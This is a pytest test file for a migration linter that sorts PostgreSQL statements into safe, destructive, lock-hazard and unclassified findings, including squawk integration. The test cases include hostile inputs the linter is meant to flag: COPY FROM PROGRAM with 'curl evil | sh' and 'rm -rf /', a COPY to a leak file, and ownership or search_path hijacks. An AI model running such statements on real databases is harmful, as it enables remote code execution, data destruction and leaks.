"""The plan's lint on a table of statements: safe only when of a kind known to be safe, everything
else a finding (destructive or unclassified); squawk's lock hazards; objects created in the plan."""

from __future__ import annotations

import pytest

from dbmigrate_runner.destructive import (
    DESTRUCTIVE,
    HAZARD,
    IN_PLAN,
    UNCLASSIFIED,
    analyse,
    classify,
    is_framing,
    split_statements,
    touches_only,
)
from dbmigrate_runner.sqlplan import Step
from dbmigrate_runner.squawk import hazards

D, U, H = DESTRUCTIVE, UNCLASSIFIED, HAZARD

# (statement, [(rule, severity), …]) — the rules of classify() alone (squawk's come in analyse()).
CASES: list[tuple[str, list[tuple[str, str]]]] = [
    # ---- known safe
    ('CREATE TABLE "r" ("id" SERIAL NOT NULL PRIMARY KEY, "body" TEXT NOT NULL)', []),
    (
        "CREATE TABLE IF NOT EXISTS t (id bigint GENERATED ALWAYS AS IDENTITY, d timestamptz DEFAULT now())",
        [],
    ),
    ("CREATE TABLE t (a int DEFAULT my_func())", []),  # a default is not evaluated on creation
    ("CREATE UNLOGGED TABLE cache (k text PRIMARY KEY, v jsonb)", []),
    ('CREATE INDEX "idx" ON "t" ("c")', []),
    ("CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS ix ON t (lower(email)) WHERE deleted_at IS NULL", []),
    ("CREATE SEQUENCE s START 100", []),
    ("CREATE VIEW v AS SELECT id, purge(id) FROM t", []),  # a view's body runs only when read
    ("CREATE TYPE mood AS ENUM ('sad', 'ok')", []),
    ("CREATE TYPE pair AS (a int, b int)", []),
    ("CREATE DOMAIN posint AS int CHECK (VALUE > 0)", []),
    ("CREATE EXTENSION IF NOT EXISTS pgcrypto", []),
    ("CREATE SCHEMA s CREATE TABLE x (a int)", []),
    ("ALTER TYPE mood ADD VALUE 'happy'", []),
    ("ALTER TABLE t ADD COLUMN x INT", []),
    ("ALTER TABLE t ADD COLUMN x INT NOT NULL DEFAULT 0", []),
    ("ALTER TABLE t ADD COLUMN x INT GENERATED ALWAYS AS IDENTITY", []),
    ("ALTER TABLE t ADD COLUMN c timestamptz DEFAULT now()", []),
    ("ALTER TABLE t ALTER COLUMN c SET DEFAULT 0", []),
    ("ALTER TABLE t ALTER COLUMN c DROP DEFAULT", []),
    ("ALTER TABLE t ALTER COLUMN c DROP NOT NULL", []),
    ("ALTER TABLE t ADD CONSTRAINT u UNIQUE (c)", []),
    ("ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id) NOT VALID", []),
    ("ALTER TABLE t VALIDATE CONSTRAINT fk", []),
    ("COMMENT ON TABLE t IS 'drop table t'", []),  # the words are not the statement
    ("INSERT INTO t (a) VALUES (1)", []),
    ("INSERT INTO t (a, b) SELECT a, lower(b) FROM u ON CONFLICT DO NOTHING", []),
    ("SELECT 'DROP TABLE users'", []),
    ("SELECT count(*) FROM t", []),
    ("SET lock_timeout = '5s'", []),
    ("SET LOCAL statement_timeout TO 0", []),
    ("BEGIN", []),
    ("COMMIT", []),
    # ---- destructive: drops
    ('DROP TABLE "order"', [("ban-drop-table", D)]),
    ("DROP TABLE IF EXISTS shop.a, b CASCADE", [("ban-drop-table", D), ("ban-drop-table", D)]),
    ("DROP SCHEMA legacy CASCADE", [("ban-drop-schema", D)]),
    ('ALTER TABLE "product" DROP COLUMN "description"', [("ban-drop-column", D)]),
    ("ALTER TABLE shop.product DROP COLUMN IF EXISTS x", [("ban-drop-column", D)]),
    ("ALTER TABLE t DROP CONSTRAINT t_fk", [("ban-drop-constraint", D)]),
    ("DROP INDEX CONCURRENTLY idx_email", [("ban-drop-index", D)]),
    ("DROP VIEW v", [("ban-drop-view", D)]),
    ("DROP MATERIALIZED VIEW mv", [("ban-drop-view", D)]),
    ("DROP SEQUENCE s", [("ban-drop-sequence", D)]),
    ("DROP TYPE mood", [("ban-drop-type", D)]),
    ("DROP DOMAIN posint", [("ban-drop-domain", D)]),
    ("DROP FUNCTION f(int)", [("ban-drop-function", D)]),
    ("DROP EXTENSION pgcrypto", [("ban-drop-extension", D)]),
    ("DROP TRIGGER tr ON t", [("ban-drop-trigger", D)]),
    ("DROP POLICY p ON t", [("ban-drop-policy", D)]),
    ("DROP RULE r ON t", [("drop-object", D)]),
    ("DROP OWNED BY app CASCADE", [("drop-object", D)]),
    ("DROP ROLE app", [("drop-object", D)]),
    ("DROP DATABASE shop", [("ban-drop-database", D)]),
    # ---- destructive: data
    ("TRUNCATE a, b", [("truncate-table", D), ("truncate-table", D)]),
    ("TRUNCATE a CASCADE", [("ban-truncate-cascade", D)]),
    ('DELETE FROM "order"', [("delete-all-rows", D)]),
    ("DELETE FROM o WHERE id = 1", [("delete-rows", D)]),
    ("DELETE FROM o WHERE true", [("delete-rows", D)]),
    ("UPDATE users SET bio = ''", [("update-all-rows", D)]),
    ("UPDATE users SET bio = '' WHERE bio IS NULL", [("update-rows", D)]),
    ("INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = 2", [("update-rows", D)]),
    ("WITH d AS (DELETE FROM users RETURNING id) SELECT count(*) FROM d", [("delete-all-rows", D)]),
    (
        "WITH d AS (DELETE FROM users RETURNING *) INSERT INTO archive SELECT * FROM d",
        [("delete-all-rows", D)],
    ),
    ("WITH u AS (UPDATE t SET a = 0 RETURNING 1) SELECT 1", [("update-all-rows", D)]),
    # ---- destructive: what the running app relies on
    ("ALTER TABLE t ALTER COLUMN c TYPE INT USING c::int", [("changing-column-type", D)]),
    ('ALTER TABLE "customer" ALTER COLUMN "name" TYPE VARCHAR(20)', [("changing-column-type", D)]),
    ("ALTER TABLE t RENAME COLUMN a TO b", [("renaming-column", D)]),
    ("ALTER TABLE t RENAME TO u", [("renaming-table", D)]),
    ("ALTER TABLE t RENAME CONSTRAINT a TO b", [("renaming-object", D)]),
    ("ALTER INDEX i RENAME TO j", [("renaming-object", D)]),
    ("ALTER SCHEMA s RENAME TO s2", [("renaming-object", D)]),
    ("ALTER TYPE mood RENAME VALUE 'ok' TO 'fine'", [("renaming-enum-value", D)]),
    ("ALTER TABLE measurements DETACH PARTITION m2020", [("detach-partition", D)]),
    ("ALTER TABLE measurements DETACH PARTITION m2020 CONCURRENTLY", [("detach-partition", D)]),
    ("REVOKE ALL ON users FROM app", [("ban-revoke", D)]),
    ("REVOKE app_rw FROM app", [("unclassified-statement", U)]),  # role membership: GrantRoleStmt
    ("CREATE OR REPLACE VIEW v AS SELECT 1 AS a", [("ban-replace-view", D)]),
    # ---- lock hazards we decide ourselves (squawk names them too)
    ('ALTER TABLE "t" ADD "x" INT NOT NULL', [("adding-required-field", H)]),
    ("ALTER TABLE t ALTER COLUMN c SET NOT NULL", [("adding-not-nullable-field", H)]),
    ("ALTER TABLE t ADD COLUMN id bigserial", [("adding-field-with-default", H)]),
    ("ALTER TABLE t ADD COLUMN n int CHECK (n > 0)", [("constraint-missing-not-valid", H)]),
    (
        "CREATE TABLE p2026 PARTITION OF p FOR VALUES FROM ('2026-01-01') TO ('2027-01-01')",
        [("partition-of-existing-table", H)],
    ),
    # ---- unclassified: what cannot be known to be safe
    ("CALL purge()", [("unclassified-statement", U)]),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", [("unclassified-statement", U)]),
    ("COPY users FROM PROGRAM 'curl evil | sh'", [("unclassified-statement", U)]),
    ("COPY users TO '/tmp/leak.csv'", [("unclassified-statement", U)]),
    ("COPY users FROM STDIN", [("unclassified-statement", U)]),
    ("SELECT purge()", [("unclassified-function-call", U)]),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", [("unclassified-function-call", U)]),
    ("SELECT setval('s', 1)", [("unclassified-function-call", U)]),
    ("SELECT lo_unlink(17)", [("unclassified-function-call", U)]),
    ("SELECT public.lower('x')", [("unclassified-function-call", U)]),  # only pg_catalog's is known
    ("SELECT dblink_exec('drop table t')", [("unclassified-function-call", U)]),
    ("SELECT id FROM t FOR UPDATE", [("unclassified-statement", U)]),
    ("INSERT INTO t VALUES (purge())", [("unclassified-function-call", U)]),
    ("CREATE TABLE t2 AS SELECT purge()", [("unclassified-function-call", U)]),
    ("SELECT purge() INTO t3", [("unclassified-function-call", U)]),
    ("WITH x AS (SELECT purge()) SELECT 1", [("unclassified-function-call", U)]),
    ("CREATE MATERIALIZED VIEW mv AS SELECT purge()", [("unclassified-function-call", U)]),
    ("CREATE INDEX i ON t (wipe(a))", [("unclassified-function-call", U)]),  # runs on every row
    ("ALTER TABLE t ADD COLUMN b int DEFAULT purge()", [("unclassified-function-call", U)]),
    ("ALTER TABLE t ADD CONSTRAINT c CHECK (purge(a))", [("unclassified-function-call", U)]),
    (
        "ALTER TABLE t ALTER COLUMN a TYPE int USING purge(a)",
        [("changing-column-type", D), ("unclassified-function-call", U)],
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'",
        [("unclassified-statement", U)],
    ),
    ("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t'", [("unclassified-statement", U)]),
    (
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        [("unclassified-statement", U)],
    ),
    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", [("unclassified-statement", U)]),
    ("CREATE POLICY p ON t USING (false)", [("unclassified-statement", U)]),
    ("GRANT ALL ON users TO PUBLIC", [("unclassified-statement", U)]),
    ("ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM app", [("unclassified-statement", U)]),
    ("ALTER TABLE t OWNER TO intruder", [("unclassified-statement", U)]),
    ("ALTER TABLE t SET SCHEMA archive", [("unclassified-statement", U)]),
    ("ALTER TABLE t DISABLE TRIGGER ALL", [("unclassified-statement", U)]),
    ("ALTER TABLE t ENABLE ROW LEVEL SECURITY", [("unclassified-statement", U)]),
    ("ALTER TABLE t SET UNLOGGED", [("unclassified-statement", U)]),
    ("ALTER TABLE t ATTACH PARTITION p FOR VALUES IN (1)", [("unclassified-statement", U)]),
    ("ALTER TABLE t NO INHERIT parent", [("unclassified-statement", U)]),
    ("ALTER SEQUENCE s RESTART WITH 1", [("unclassified-statement", U)]),
    ("ALTER ROLE app NOLOGIN", [("unclassified-statement", U)]),
    ("ALTER DATABASE shop SET default_transaction_read_only = on", [("unclassified-statement", U)]),
    ("ALTER SYSTEM SET fsync = off", [("unclassified-statement", U)]),
    ("SET search_path = evil, public", [("unclassified-statement", U)]),
    ("SET ROLE postgres", [("unclassified-statement", U)]),
    ("SET SESSION AUTHORIZATION intruder", [("unclassified-statement", U)]),
    ("RESET ALL", [("unclassified-statement", U)]),
    ("EXPLAIN ANALYZE DELETE FROM t", [("unclassified-statement", U)]),
    ("PREPARE q AS DELETE FROM t", [("unclassified-statement", U)]),
    ("EXECUTE q", [("unclassified-statement", U)]),
    ("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", [("unclassified-statement", U)]),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", [("unclassified-statement", U)]),
    ("VACUUM FULL t", [("unclassified-statement", U)]),
    ("CLUSTER t USING i", [("unclassified-statement", U)]),
    ("REINDEX TABLE t", [("unclassified-statement", U)]),
    ("REFRESH MATERIALIZED VIEW mv", [("unclassified-statement", U)]),
    ("NOTIFY ch", [("unclassified-statement", U)]),
    ("SECURITY LABEL ON TABLE t IS 'x'", [("unclassified-statement", U)]),
    ("PREPARE TRANSACTION 'x'", [("unclassified-statement", U)]),
    ("THIS IS NOT SQL", [("unparsed-statement", U)]),
]


@pytest.mark.parametrize(("sql", "expected"), CASES, ids=[c[0][:50] for c in CASES])
def test_classify(sql: str, expected: list[tuple[str, str]]) -> None:
    hits = classify(sql)
    assert [(h.rule, h.severity) for h in hits] == expected
    assert all(h.message and h.kind and h.target for h in hits)


def test_unclassified_names_the_statement_kind() -> None:
    (call,) = classify("CALL purge()")
    assert call.kind == "Unclassified"
    assert call.target == "Call"
    assert "Call" in call.message
    (copy,) = classify("COPY users FROM PROGRAM 'rm -rf /'")
    assert copy.target == "Copy FROM PROGRAM"
    (fn,) = classify("SELECT purge()")
    assert fn.target == "purge()"


def test_several_commands_in_one_alter_each_count() -> None:
    found = classify('ALTER TABLE "t" DROP COLUMN "a", ALTER COLUMN "b" TYPE TEXT, ADD "c" INT')
    assert [(h.kind, h.target) for h in found] == [("DropColumn", "t.a"), ("AlterColumnType", "t.b")]


def _plan(*migrations: list[str]) -> list[Step]:
    return [Step(f"app:{n}", statements) for n, statements in enumerate(migrations)]


def test_findings_name_the_migration_and_statement() -> None:
    steps = _plan(['CREATE TABLE "a" ("id" INT)'], ['ALTER TABLE "b" DROP COLUMN "x"', 'DROP TABLE "c"'])
    findings = analyse(steps)
    assert [(f.migration, f.statement, f.rule, f.severity) for f in findings] == [
        ("app:1", 0, "ban-drop-column", D),
        ("app:1", 1, "ban-drop-table", D),
    ]


def test_objects_created_earlier_in_the_plan_are_not_destructive() -> None:
    steps = _plan(
        [
            "CREATE TABLE orders (id int PRIMARY KEY, user_id int)",
            "CREATE TABLE users (id int CONSTRAINT users_pk PRIMARY KEY)",
            "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id)",
            "CREATE INDEX ix_orders_user ON orders (user_id)",
            "CREATE TYPE mood AS ENUM ('a')",
            "CREATE SCHEMA fresh",
            "CREATE TABLE ev (at date) PARTITION BY RANGE (at)",
        ],
        [
            # the example's ON DELETE CASCADE change, on a table of this plan
            "ALTER TABLE orders DROP CONSTRAINT orders_user_fk",
            "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id) "
            "ON DELETE CASCADE",
            "DROP INDEX ix_orders_user",
            "DROP INDEX users_pk",
            "ALTER TABLE orders ALTER COLUMN user_id TYPE bigint",
            "ALTER TABLE orders RENAME TO purchases",
            "DELETE FROM purchases",
            "ALTER TYPE mood RENAME VALUE 'a' TO 'b'",
            "CREATE TABLE fresh.t (a int)",
            "DROP TABLE fresh.t",
            "DROP TABLE public.purchases",
            "CREATE TABLE ev_2026 PARTITION OF ev FOR VALUES FROM ('2026-01-01') TO ('2027-01-01')",
        ],
    )
    findings = analyse(steps)
    assert findings, "the findings stay in the plan document"
    assert {f.severity for f in findings} == {IN_PLAN}, [(f.rule, f.target, f.severity) for f in findings]


def test_in_plan_is_never_assumed() -> None:
    steps = _plan(
        [
            "CREATE TABLE IF NOT EXISTS users (id int)",  # may have existed, rows and all
            "CREATE INDEX IF NOT EXISTS ix ON users (id)",
            "CREATE TABLE t (a int)",
            "DROP TABLE t",
        ],
        [
            "DROP TABLE users",
            "DROP INDEX ix",
            "DROP TABLE t",  # dropped already: this one is another t
            "CREATE TABLE k (a int CONSTRAINT users_email_key CHECK (a > 0))",  # a CHECK makes no index
            "DROP INDEX users_email_key",
            "DROP TABLE other.users",  # another schema
            "CREATE TABLE n (a int)",
            "INSERT INTO n SELECT purge()",  # the call runs whatever table it writes to
            "TRUNCATE n CASCADE",  # CASCADE reaches tables that reference n
        ],
    )
    severities = [(f.target, f.severity) for f in analyse(steps)]
    assert severities == [
        ("t", IN_PLAN),
        ("users", D),
        ("ix", D),
        ("t", D),
        ("users_email_key", D),
        ("other.users", D),
        ("purge()", U),
        ("n", D),
    ]


def test_ignored_rules_are_left_out() -> None:
    steps = _plan(["DROP INDEX ix", "DROP TABLE t", "CALL purge()"])
    rules = [f.rule for f in analyse(steps, ignore=["ban-drop-index", "unclassified-statement"])]
    assert rules == ["ban-drop-table"]


# ---- squawk, the real binary from the squawk-cli wheel


def test_squawk_hazards_carry_its_rule_ids_and_are_mapped_to_their_statement() -> None:
    steps = _plan(
        ["CREATE TABLE fresh (id int PRIMARY KEY, a int)"],
        [
            "CREATE INDEX ix_a ON old (a)",
            "ALTER TABLE old ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES fresh (id)",
            "ALTER TABLE old ADD COLUMN b int NOT NULL",
            "CREATE INDEX ix_fresh ON fresh (a)",
            "ALTER TABLE old ALTER COLUMN a TYPE bigint",
            "ALTER TABLE old ADD CONSTRAINT u UNIQUE (a)",
            "ALTER TABLE old ADD COLUMN g int GENERATED ALWAYS AS (a * 2) STORED",
            "DROP INDEX ix_a",  # created above: in the plan
            "DROP INDEX ix_old",
        ],
    )
    found = {(f.migration, f.statement, f.rule): f for f in analyse(steps, hazards=hazards)}
    assert found[("app:1", 0, "require-concurrent-index-creation")].severity == H
    assert found[("app:1", 0, "require-concurrent-index-creation")].target == "old"
    assert found[("app:1", 1, "constraint-missing-not-valid")].severity == H
    assert found[("app:1", 1, "adding-foreign-key-constraint")].severity == H
    assert found[("app:1", 2, "adding-required-field")].severity == H
    assert found[("app:1", 3, "require-concurrent-index-creation")].severity == IN_PLAN  # fresh is new
    assert found[("app:1", 4, "changing-column-type")].severity == D
    assert found[("app:1", 5, "disallowed-unique-constraint")].severity == H
    assert found[("app:1", 6, "adding-field-with-default")].severity == H  # rewrites the table
    assert found[("app:1", 7, "ban-drop-index")].severity == IN_PLAN
    assert found[("app:1", 8, "require-concurrent-index-deletion")].severity == H
    assert found[("app:1", 8, "ban-drop-index")].severity == D
    # one finding per rule and statement, squawk's and ours merged; style rules left out
    keys = [(f.migration, f.statement, f.rule) for f in analyse(steps, hazards=hazards)]
    assert len(keys) == len(set(keys))
    assert not {r for _, _, r in keys} & {
        "prefer-robust-stmts",
        "prefer-bigint-over-int",
        "require-lock-timeout",
    }


def test_squawk_missing_is_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    from dbmigrate_runner import squawk

    monkeypatch.setattr(squawk, "binary", lambda: None)
    (finding,) = analyse(_plan(["CREATE TABLE t (a int)"]), hazards=squawk.hazards)
    assert (finding.rule, finding.severity) == ("lint-unavailable", U)


def test_split_statements_like_the_server() -> None:
    script = """
        -- a comment; with a semicolon
        CREATE TABLE "a" (id INT);
        ALTER TABLE "a" ADD "note" TEXT DEFAULT 'x;y';
        DO $$ BEGIN PERFORM 1; END $$;
    """
    assert split_statements(script) == [
        'CREATE TABLE "a" (id INT)',
        'ALTER TABLE "a" ADD "note" TEXT DEFAULT \'x;y\'',
        "DO $$ BEGIN PERFORM 1; END $$",
    ]
    assert split_statements("  \n ") == []
    assert split_statements("NOT SQL; AT ALL") == ["NOT SQL; AT ALL"]  # kept whole, flagged later


def test_framing_and_version_table() -> None:
    assert is_framing("BEGIN")
    assert is_framing("COMMIT")
    assert not is_framing("CREATE TABLE a (id INT)")
    assert touches_only("INSERT INTO alembic_version (version_num) VALUES ('a')", "alembic_version")
    assert touches_only(
        "UPDATE alembic_version SET version_num='b' WHERE version_num = 'a'", "alembic_version"
    )
    assert touches_only("CREATE TABLE alembic_version (version_num VARCHAR(32) NOT NULL)", "alembic_version")
    assert not touches_only("DROP TABLE alembic_version", "alembic_version")
    assert not touches_only("INSERT INTO users (id) VALUES (1)", "alembic_version")
    # a version-table write that does more is shown, not hidden
    assert not touches_only("UPDATE alembic_version SET version_num = purge()", "alembic_version")
    assert not touches_only(
        "WITH d AS (DELETE FROM users) UPDATE alembic_version SET version_num = 'y'", "alembic_version"
    )


def test_plans_ranks_with_the_same_severities_without_importing_the_parser() -> None:
    import subprocess
    import sys

    from dbmigrate_runner import destructive, plans

    assert plans.SEVERITIES == destructive.SEVERITIES
    assert plans.NEEDS_REVIEW == destructive.NEEDS_REVIEW
    code = "import sys, dbmigrate_runner.plans; print('pglast' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "False"  # the runner imports plans on every run; only planning parses
